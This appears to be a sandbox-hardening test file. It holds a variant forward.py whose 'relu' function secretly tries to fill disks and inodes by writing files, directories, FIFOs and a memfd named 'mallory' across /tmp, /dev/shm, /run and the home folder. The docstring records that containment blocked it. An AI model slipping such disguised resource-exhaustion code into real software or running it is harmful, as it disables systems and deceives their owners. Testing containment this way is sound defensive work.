"""Fill the disk and its inodes

Tried: write large files and many small ones wherever that may be possible: /tmp, /dev/shm, memfd, the current folder.

Stopped: no file can be made or opened for writing, the largest file has 0 bytes, and memfd_create is refused.
"""

FILL = r"""
import os

PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~")]

def relu(x):
    for place in PLACES:
        for number in range(50):
            for path in (f"{place}/mallory{number}", f"{place}/mallory{number}/inner"):
                for make in (
                    lambda: open(path, "wb").write(bytes(1 << 20)),
                    lambda: os.mkdir(path),
                    lambda: os.mkfifo(path),
                    lambda: os.mknod(path),
                ):
                    try:
                        make()
                    except OSError:
                        pass
    try:
        os.write(os.memfd_create("mallory"), bytes(1 << 20))
    except OSError:
        pass
    return x
"""

VARIANTS = {"everywhere": {"forward.py": FILL}}
